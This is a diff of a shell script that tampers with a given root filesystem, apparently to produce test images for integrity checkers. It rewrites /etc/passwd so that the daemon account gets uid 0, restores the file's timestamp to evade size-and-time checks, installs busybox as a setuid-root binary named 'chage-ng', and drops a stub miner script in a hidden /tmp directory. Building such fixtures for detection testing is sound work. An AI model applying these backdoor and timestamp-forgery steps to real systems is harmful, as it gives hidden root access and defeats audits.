@@ -8,14 +8,13 @@ set -eu
 root=${1%/}
 
 # an account, with size and time of the file put back: what size-and-time checkers miss
-stamp=$(stat -c %y "$root/etc/passwd")
-sed 's/^games:x:5:60:games:/toor0:x:0:00:games:/' "$root/etc/passwd" >"$root/etc/passwd.new"
-cat "$root/etc/passwd.new" >"$root/etc/passwd"
-rm "$root/etc/passwd.new"
-touch -d "$stamp" "$root/etc/passwd"
+stamp=$(stat -c %Y "$root/etc/passwd")
+edited=$(sed 's/^daemon:x:1:1:/daemon:x:0:0:/' "$root/etc/passwd")
+echo "$edited" >"$root/etc/passwd"
+touch -d "@$stamp" "$root/etc/passwd"
 
 # a setuid shell under a dull name, a dropped program in a hidden directory
-cp "$root/bin/busybox" "$root/usr/bin/chage-ng"
+cp "$root/usr/bin/busybox" "$root/usr/bin/chage-ng"
 chmod 4755 "$root/usr/bin/chage-ng"
 mkdir -p "$root/tmp/.font-unix"
 printf '#!/bin/sh\necho mining\n' >"$root/tmp/.font-unix/kworker"
